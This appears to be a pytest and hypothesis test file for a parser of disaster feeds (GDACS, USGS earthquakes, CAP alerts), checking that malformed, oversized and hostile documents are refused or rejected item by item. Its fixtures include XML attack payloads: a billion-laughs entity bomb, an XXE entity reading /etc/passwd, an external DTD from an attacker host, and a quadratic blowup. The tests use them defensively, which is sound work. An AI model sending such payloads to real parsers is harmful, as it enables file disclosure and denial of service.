"""Hostile, huge and broken documents: refused whole with a reason, or read item by item.

Nothing here may raise anything but FeedError, hang, or hold on to memory.
"""

import json
import time
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from kieubao.crisis.feeds import MAX_BYTES, FeedError, ParsedFeed, detect_kind, parse

FEEDS = Path(__file__).parents[1] / "data" / "feeds"
GDACS = (FEEDS / "gdacs" / "exxamalte_gdacs-rss.xml").read_bytes()
USGS = (FEEDS / "usgs" / "usgs-latest-earthquakes_2.5_week.json").read_bytes()
MET_EIREANN = (FEEDS / "cap" / "kde_ie_met-eireann.xml").read_bytes()
CANADA = (FEEDS / "cap" / "google_canada_ec.cap").read_bytes()

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol9 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
]>
<rss><channel><item><title>&lol9;</title></item></channel></rss>"""
XXE = b"""<?xml version="1.0"?>
<!DOCTYPE alert [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"><identifier>&secret;</identifier></alert>"""
EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE rss SYSTEM "http://attacker.example/evil.dtd"><rss/>"""
QUADRATIC = (
    b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "'
    + b"x" * 50_000
    + b'">]><rss>'
    + b"&a;" * 50_000
    + b"</rss>"
)


@pytest.mark.parametrize(
    "body",
    [BILLION_LAUGHS, XXE, EXTERNAL_DTD, QUADRATIC],
    ids=["billion-laughs", "xxe", "external-dtd", "quadratic-blowup"],
)
def test_a_dtd_is_refused_before_anything_expands(body: bytes) -> None:
    started = time.perf_counter()
    with pytest.raises(FeedError, match="DTD") as refused:
        parse(body)
    assert time.perf_counter() - started < 1.0
    assert "root:" not in str(refused.value)  # nothing of /etc/passwd came back
    assert detect_kind(body) is None


def test_a_document_too_large_is_refused_unread() -> None:
    huge = b" " * (100 * 1024 * 1024)  # 100 MB of blanks: refused on its length alone
    started = time.perf_counter()
    with pytest.raises(FeedError, match="larger than 20 MB"):
        parse(huge)
    assert time.perf_counter() - started < 0.5
    assert detect_kind(huge) is None
    at_the_limit = b"{" + b" " * (MAX_BYTES - 2) + b"}"
    with pytest.raises(FeedError, match="not a GeoJSON"):  # read, and found wanting
        parse(at_the_limit)


@pytest.mark.parametrize(
    ("body", "reason"),
    [
        (b"", "empty"),
        (b"   \n ", "empty"),
        (b"%PDF-1.7 \x00\x01", "neither JSON nor XML"),
        (b"{not json", "not valid JSON"),
        (b"[" * 100_000, "nested too deeply"),
        (b"<", "not well-formed"),
        (b"<html><body>Service Unavailable</body></html>", "its root is <html>"),
        (b"<?xml version='1.0'?><!-- nothing -->", "not well-formed"),
    ],
)
def test_a_document_that_is_no_feed_is_refused_with_its_reason(body: bytes, reason: str) -> None:
    with pytest.raises(FeedError, match=reason):
        parse(body)


def test_an_unknown_kind_is_refused() -> None:
    with pytest.raises(FeedError, match="unknown feed kind"):
        parse(GDACS, "rss")


@pytest.mark.parametrize("encoding", ["utf-16-le", "utf-16-be"])
def test_utf16_without_a_byte_order_mark(encoding: str) -> None:
    body = GDACS.decode("utf-8-sig").encode(encoding)
    assert not body.startswith((b"\xff\xfe", b"\xfe\xff"))
    feed = parse(body)
    assert (feed.kind, len(feed.reports), feed.rejections) == ("gdacs", 16, ())


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-32"])
def test_json_in_utf16_or_utf32(encoding: str) -> None:
    assert len(parse(USGS.decode("utf-8").encode(encoding)).reports) == 245


def test_windows_1252_declared_as_utf8() -> None:
    body = MET_EIREANN.decode("utf-8").encode("cp1252")
    assert b'encoding="UTF-8"' in body and b"Met \xc9ireann" in body
    feed = parse(body)
    assert feed.reports[0].infos[0].sender_name == "Met Éireann"
    assert "Windows-1252" in feed.notes[0]


def test_one_latin1_byte_costs_one_character() -> None:
    body = GDACS.replace(b"was active in SWIndian", b"was active in the Oc\xe9an Indien", 1)
    feed = parse(body)
    assert len(feed.reports) == 16 and feed.rejections == ()
    assert "Océan Indien" in (feed.reports[0].infos[0].description or "")
    assert "Windows-1252" in feed.notes[0]


def test_a_declaration_of_latin1_over_utf8_bytes() -> None:
    body = MET_EIREANN.replace(b'encoding="UTF-8"', b'encoding="ISO-8859-1"')
    feed = parse(body)
    assert feed.reports[0].infos[0].sender_name == "Met Éireann"
    assert feed.notes == ("the document declares 'ISO-8859-1' but its bytes are UTF-8",)
    latin1 = MET_EIREANN.decode("utf-8").encode("latin-1").replace(b"UTF-8", b"ISO-8859-1")
    assert parse(latin1).reports[0].infos[0].sender_name == "Met Éireann"
    assert parse(latin1).notes == ()


def test_control_characters_xml_forbids_are_removed() -> None:
    body = GDACS.replace(b"CALVINIA-19", b"CALVINIA\x0b-19", 1)
    feed = parse(body)
    assert len(feed.reports) == 16 and "1 characters" in feed.notes[0]


def test_a_cap_alert_with_elements_out_of_order_is_rejected_with_the_schema_message() -> None:
    body = CANADA.replace(
        b"<urgency>Past</urgency>\n    <severity>Minor</severity>",
        b"<severity>Minor</severity>\n    <urgency>Past</urgency>",
        1,
    )
    feed = parse(body)
    assert feed.reports == ()
    (rejection,) = feed.rejections
    assert rejection.item == "cap@ec.gc.ca/2.49.0.1.124.6bddbc91.2012"
    assert rejection.reason.startswith("the alert does not follow the CAP 1.2 schema: ")
    assert "Unexpected child with tag 'severity'" in rejection.reason
    assert "\n" not in rejection.reason


def test_a_cap_polygon_that_is_not_closed_is_rejected() -> None:
    body = CANADA.replace(b"42.3481,-82.9314 42.3363", b"42.3482,-82.9314 42.3363", 2)
    (rejection,) = parse(body).rejections
    assert "not closed" in rejection.reason


def test_a_cap_alert_in_no_namespace_is_rejected() -> None:
    body = CANADA.replace(b' xmlns="urn:oasis:names:tc:emergency:cap:1.2"', b"", 1)
    (rejection,) = parse(body).rejections
    assert "not in the CAP 1.2 namespace" in rejection.reason


def test_a_bad_magnitude_costs_its_feature_only() -> None:
    data = json.loads(USGS)
    data["features"][7]["properties"]["mag"] = "abc"
    bad_id = data["features"][7]["id"]
    feed = parse(json.dumps(data).encode())
    assert len(feed.reports) == 244
    (rejection,) = feed.rejections
    assert rejection.item == bad_id
    assert rejection.reason == "the magnitude (mag) is 'abc', not a number"


@pytest.mark.parametrize(
    ("change", "reason"),
    [
        ({"geometry": {"type": "Point", "coordinates": [10.0, 95.0, 5.0]}}, "outside -90..90"),
        ({"geometry": None}, "not a Point"),
        ({"properties": {"mag": 5.0, "time": "yesterday"}}, "the time is 'yesterday'"),
        ({"properties": {"mag": 5.0, "time": 10**30}}, "not a time in milliseconds"),
        ({"properties": {"mag": float("nan"), "time": 0}}, "not a finite number"),
        ({"id": None}, "no id"),
    ],
)
def test_broken_usgs_features_are_rejected_one_by_one(
    change: dict[str, object], reason: str
) -> None:
    data = json.loads(USGS)
    data["features"][0].update(change)
    feed = parse(json.dumps(data).encode())
    assert len(feed.reports) == 244
    assert reason in feed.rejections[0].reason
    assert feed.rejections[0].item in {data["features"][0]["id"], "item 1"}


def test_a_gdacs_item_with_a_bad_latitude_is_rejected_the_rest_kept() -> None:
    body = GDACS.replace(b"<geo:lat>-19.4</geo:lat>", b"<geo:lat>-119.4</geo:lat>", 1)
    feed = parse(body)
    assert len(feed.reports) == 15
    assert feed.rejections[0].item == "TC1000643"
    assert feed.rejections[0].reason == "geo:lat -119.4 is outside -90..90"


def test_a_feed_that_breaks_off_keeps_its_complete_items() -> None:
    cut = GDACS[: GDACS.index(b"<gdacs:eventid>1013682</gdacs:eventid>")]
    feed = parse(cut)
    assert len(feed.reports) == 5
    (rejection,) = feed.rejections
    assert rejection.item == "item 6" and "cut off" in rejection.reason
    assert "breaks off" in feed.notes[0]


def test_a_feed_cut_off_before_any_item_has_none() -> None:
    feed = parse(b"<rss><channel><title>GDACS")
    assert (feed.reports, feed.links, feed.rejections) == ((), (), ())
    assert "breaks off" in feed.notes[0]


def test_blank_lines_before_the_xml_declaration_are_forgiven() -> None:
    assert len(parse(b"\r\n\n" + GDACS.removeprefix(b"\xef\xbb\xbf")).reports) == 16


def test_deep_nesting_costs_the_item_not_the_feed() -> None:
    deep = b"<a>" * 5_000 + b"</a>" * 5_000
    body = GDACS.replace(b"<gdacs:temporary>", deep + b"<gdacs:temporary>", 1)
    feed = parse(body)
    assert len(feed.reports) == 16
    alert = CANADA.replace(b"<note/>", b"<note>" + deep + b"</note>")
    assert parse(alert).rejections


SMALL_DOCUMENTS = [
    MET_EIREANN,
    (FEEDS / "cap" / "google_australia_nsw-rfs.cap").read_bytes(),
    (FEEDS / "cap" / "google_nws_weather_index.atom").read_bytes(),
    (FEEDS / "cap" / "kde_au-bom-en.rss.xml").read_bytes(),
    GDACS[: GDACS.index(b"<item>", GDACS.index(b"</item>"))] + b"</channel></rss>",
    json.dumps(dict(json.loads(USGS), features=json.loads(USGS)["features"][:3])).encode(),
]


def _parses_or_refuses(body: bytes) -> None:
    try:
        feed = parse(body)
    except FeedError as exc:
        outcome = exc.reason
    else:
        outcome = "parsed" if isinstance(feed, ParsedFeed) else ""
    assert outcome


@settings(max_examples=150, deadline=None)
@given(st.binary(max_size=2_000))
def test_any_bytes_parse_or_are_refused(body: bytes) -> None:
    _parses_or_refuses(body)
    assert detect_kind(body) in {None, "usgs", "gdacs", "cap"}


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    st.sampled_from(SMALL_DOCUMENTS),
    st.lists(st.tuples(st.floats(0, 1, exclude_max=True), st.integers(0, 255)), max_size=8),
    st.floats(0.05, 1),
)
def test_mutated_real_documents_parse_or_are_refused(
    document: bytes, flips: list[tuple[float, int]], keep: float
) -> None:
    body = bytearray(document[: max(1, int(len(document) * keep))])
    for where, byte in flips:
        body[int(where * len(body))] = byte
    _parses_or_refuses(bytes(body))


@settings(max_examples=60, deadline=None)
@given(st.sampled_from(SMALL_DOCUMENTS), st.text(max_size=40), st.floats(0, 1))
def test_text_spliced_into_real_documents_parses_or_is_refused(
    document: bytes, text: str, where: float
) -> None:
    at = int(where * len(document))
    _parses_or_refuses(document[:at] + text.encode("utf-8", "surrogatepass") + document[at:])
